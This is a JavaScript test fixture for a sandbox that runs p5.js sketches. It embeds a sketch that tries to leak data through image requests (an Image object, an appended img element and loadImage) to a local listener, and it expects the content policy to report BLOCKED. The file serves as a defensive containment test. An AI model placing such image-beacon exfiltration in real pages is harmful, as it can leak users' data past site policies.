// 03 image: new Image().src, an <img> element and p5's loadImage() pointed at the
// local HTTP listener (a classic exfiltration beacon: the URL carries the data).
// Containment: img-src allows only data:/blob:; the listener receives nothing; BLOCKED.
'use strict';

module.exports = {
  expect: ['BLOCKED'],
  code: String.raw`
const PP_URL = 'http://127.0.0.1:__PORT__/';
const nap = (ms) => new Promise((r) => setTimeout(r, ms));
async function setup() {
  createCanvas(100, 100);
  background(0, 200, 0);
  const im = new Image();
  im.onload = () => console.log('LEAK image loaded');
  im.src = PP_URL + 'img?secret=1';
  const el = document.createElement('img');
  el.src = PP_URL + 'img-element';
  document.body.appendChild(el);
  try { loadImage(PP_URL + 'p5-loadimage.png', () => console.log('LEAK loadImage'), () => {}); } catch (e) {}
  await nap(600);
}
`,
};
